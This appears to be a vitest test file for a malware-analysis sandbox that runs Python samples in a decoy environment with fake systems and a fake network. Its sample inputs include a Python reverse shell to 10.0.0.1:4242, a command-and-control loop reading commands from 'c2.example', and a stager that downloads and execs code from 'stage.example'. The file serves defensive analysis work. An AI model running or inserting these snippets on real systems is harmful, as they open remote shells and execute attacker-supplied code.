import { expect, test } from "vitest";
import { inDecoy, told } from "./decoy-runs.ts";
import { SCRIPTS } from "./decoy-scripts.ts";

test.each(SCRIPTS.map(([system, source, action, ...parts]) => ({ system, source, action, parts })))(
  "$system: $source is told as $action",
  async ({ system, source, action, parts }) => {
    const dossier = await inDecoy(source, { persona: { system } });
    for (const part of parts) expect(told(dossier, action)).toContain(part);
    expect(dossier.end.kind, dossier.end.message).toBe("done");
  },
);

test("each observation has the line of the script that did it", async () => {
  const dossier = await inDecoy(
    "import os\n\ndef f():\n    os.system('a')\n\nfor i in range(2):\n    f()\nlist(map(os.system, 'b'))",
  );
  expect(dossier.observations.map(({ line }) => line)).toEqual([4, 4, 8]);
});

test("modules that only another system has are absent, and so are unknown ones when asked for", async () => {
  const source =
    "for m in ('winreg', 'pwd', 'nobody'):\n    try: __import__(m); print(m)\n    except ImportError: print('no', m)";
  expect((await inDecoy(source, { persona: { system: "linux" }, unknownModules: "absent" })).stdout).toBe(
    "no winreg\npwd\nno nobody\n",
  );
  expect((await inDecoy(source, { persona: { system: "windows" } })).stdout).toBe("winreg\nno pwd\nnobody\n");
});

test("every module that the decoy has can be imported", async () => {
  const { GROUPS } = await import("../../src/inspect/decoy/groups.ts");
  for (const system of ["linux", "windows"] as const) {
    const names = Object.values(GROUPS)
      .filter((group) => (group.system ?? system) === system)
      .flatMap(({ modules }) => modules);
    const source = `import importlib, sys\nfor name in ${JSON.stringify(names)}:\n    if importlib.import_module(name) is not sys.modules[name]: print(name)`;
    const dossier = await inDecoy(source, { persona: { system }, unknownModules: "absent" });
    expect([dossier.stdout, dossier.end.kind, dossier.end.message]).toEqual(["", "done", ""]);
  }
});

test("a reverse shell is seen in whole", async () => {
  const source =
    "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('10.0.0.1',4242))\n" +
    "os.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),2)\nsubprocess.call(['/bin/sh','-i'])";
  const dossier = await inDecoy(source);
  const done = dossier.observations.filter(({ kind }) => kind !== "module").map(({ action }) => action);
  expect(done).toEqual(["socket.socket", "socket.connect", "os.dup2", "os.dup2", "os.dup2", "subprocess.call"]);
});

test("a command loop gets the configured bytes, then the end", async () => {
  const source =
    "import socket, os\ns = socket.create_connection(('c2.example', 9001))\nwhile True:\n    d = s.recv(1024)\n    if not d: break\n    os.system(d.decode())";
  const dossier = await inDecoy(source, { network: { "c2.example:9001": "uname -a" } });
  expect(told(dossier, "os.system")).toContain("uname -a");
  expect(dossier.end.kind).toBe("done");
});

test("the fake network serves what it is given, and a download that is run is a layer", async () => {
  const source =
    "import requests\nr = requests.get('http://stage.example/2.py')\nprint(r.status_code, r.headers['X-A'])\nexec(r.text)\nprint(requests.get('http://gone.example').status_code)";
  const dossier = await inDecoy(source, {
    network: {
      "http://stage.example/2.py": { body: "import os; os.system('second')", headers: { "X-A": "1" } },
      "gone.example": { status: 404 },
    },
  });
  expect(dossier.stdout).toBe("200 1\n404\n");
  expect(dossier.observations.find(({ action }) => action === "os.system")).toMatchObject({ layer: 1, line: 1 });
});
